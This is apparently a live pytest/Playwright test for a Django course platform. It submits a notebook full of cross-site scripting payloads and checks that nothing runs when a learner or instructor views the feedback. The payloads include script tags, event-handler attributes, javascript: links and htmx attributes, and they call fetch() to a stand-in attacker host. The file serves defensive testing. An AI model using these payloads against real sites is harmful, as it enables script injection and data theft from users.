"""A submitted notebook that attacks whoever looks at its feedback: in Chromium nothing of it runs."""

from uuid import uuid4

import pytest
from django.urls import reverse
from nbformat.v4 import new_code_cell, new_markdown_cell
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, expect

from courses.management.commands.load_demo import PASSWORD
from courses.models import Enrolment
from labs.blobs import read_blob
from labs.models import LabUnit
from tests.journeys.screens import open_window
from tests.live import small_course
from tests.live.fixtures import INSTRUCTOR
from tests.live.people import Visitor, save_work
from tests.live.stack import Stack
from tests.live.waiting import wait_until

pytestmark = [pytest.mark.live, pytest.mark.xdist_group("journeys")]

# Each sets `window.hacked`, opens a dialog, leaves the page or calls a machine of the attacker's.
THERE = "http://attacker.localhost:9"
RUN = f"window.hacked=1;alert(1);fetch('{THERE}/fetch')"
ATTACKS = f"""
<script>{RUN}</script>
<script src="{THERE}/script.js"></script>
<img src="x" onerror="{RUN}">
<img src="{THERE}/picture.png">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>">
<svg onload="{RUN}"><script>{RUN}</script><a href="javascript:{RUN}"><text>drawn-link</text></a></svg>
<math><mtext><style><img src="x" onerror="{RUN}"></style></mtext></math>
<iframe src="javascript:{RUN}"></iframe>
<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>
<object data="{THERE}/object"></object><embed src="{THERE}/embed">
<meta http-equiv="refresh" content="0;url={THERE}/refresh">
<base href="{THERE}/">
<link rel="stylesheet" href="{THERE}/style.css">
<style>body {{ background: url({THERE}/background) }}</style>
<p style="width: expression({RUN}); background: url({THERE}/expression); position: fixed; inset: 0">styled</p>
<details open ontoggle="{RUN}"><summary>toggled</summary></details>
<input autofocus onfocus="{RUN}"><video autoplay src="{THERE}/video" onerror="{RUN}"></video>
<form action="{THERE}/form"><button formaction="javascript:{RUN}">press-me</button></form>
<a href="javascript:{RUN}">run-link</a> <a href=" java&#x09;script:{RUN}">tab-link</a>
<a href="data:text/html,<script>{RUN}</script>">data-link</a> <a href="vbscript:{RUN}">basic-link</a>
<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>
<div id="submission-status" hx-get="{THERE}/htmx" hx-trigger="load" data-hx-get="{THERE}/data-htmx">htmx</div>
<p>end-of-attacks</p>
"""
MARKDOWN = f"{ATTACKS}\n\n[md-link](javascript:{RUN}) ![picture]({THERE}/markdown.png) <{THERE}/auto>\n"
LINKS = ("run-link", "tab-link", "data-link", "basic-link", "md-link", "drawn-link", "press-me")


@pytest.fixture
def feedback_path(visitor: Visitor, learner: Enrolment, small_lab: LabUnit) -> str:
    """Ada's graded submission: the attacks stand in Markdown, in printed HTML and Markdown, and in an error."""
    released = read_blob(small_lab.release.learner_files[small_course.NOTEBOOK])
    show = "from IPython.display import HTML, Javascript, Markdown, SVG, display\n"
    shows = (
        f"display(HTML({ATTACKS!r}))",
        f"display(Markdown({MARKDOWN!r}))",
        f"display(Javascript({RUN!r}))",
        f"display(SVG(\"<svg xmlns='http://www.w3.org/2000/svg' onload={RUN!r}></svg>\"))",
        f"display({{'text/html': {ATTACKS!r}, 'text/latex': {ATTACKS!r}}}, raw=True)",
        f"print({ATTACKS!r})",
        f"raise ValueError({ATTACKS!r})",
    )
    cells = [new_markdown_cell(MARKDOWN), *(new_code_cell(show + each) for each in shows)]
    work = small_course.solve(released, *cells)
    save_work(learner, small_lab.release.lab, {small_course.NOTEBOOK: work})
    submit = reverse("labs:submit", args=[learner.cohort.public_id, small_course.LAB])
    path: str = visitor.press(submit, press_key=str(uuid4())).headers["Location"]
    wait_until(lambda: 'id="mark-heading"' in visitor.read(path), "the mark is on the page", seconds=90)
    return path


def test_nothing_of_a_hostile_notebook_runs_in_anybodys_browser(
    stack: Stack, visitor: Visitor, feedback_path: str, chromium: Browser
) -> None:
    for reader in (visitor, Visitor(stack, INSTRUCTOR, PASSWORD)):
        with open_window(chromium, stack, visitor=reader) as window:
            assert_harmless(stack, window, feedback_path)


def assert_harmless(stack: Stack, window: BrowserContext, path: str) -> None:
    elsewhere: list[str] = []
    dialogs: list[str] = []
    window.on("request", lambda request: elsewhere.append(request.url))

    def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    window.on("dialog", dismiss)
    page = window.new_page()
    answer = page.goto(path, wait_until="networkidle")
    assert answer, "the page was not fetched anew"

    policy = {
        name: words for name, *words in map(str.split, answer.headers["content-security-policy"].split(";"))
    }
    assert policy["default-src"] == ["'none'"]
    assert policy["script-src"] == ["'self'"]
    assert policy["frame-ancestors"] == ["'none'"]

    # The work is there to be read, and there is nothing in it that could act.
    page.get_by_label("Show the whole notebook").check()
    expect(page.get_by_text("end-of-attacks").first).to_be_visible()
    made_by_learner = ".notebook :is(.cell-source, .cell-output, .prose)"
    acting = ":is(script, iframe, object, embed, form, input, video, style, link, meta, base)"
    expect(page.locator(f"{made_by_learner} {acting}")).to_have_count(0)
    expect(page.locator(made_by_learner).first).to_be_visible()
    expect(page.locator("#submission-status")).to_have_count(1)
    press_everything(page)

    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.hacked") is None
    assert not dialogs, dialogs
    assert not [url for url in elsewhere if not url.startswith((stack.url, "data:image/"))]
    assert page.url.startswith(stack.url + path)
    assert len(window.pages) == 1


def press_everything(page: Page) -> None:
    """Follow what the learner made look like a link, where it still does."""
    for words in LINKS:
        for link in page.locator(".notebook").get_by_text(words, exact=True).all():
            assert not (link.get_attribute("href") or "").strip(), f"{words} leads somewhere"
            link.click(force=True)
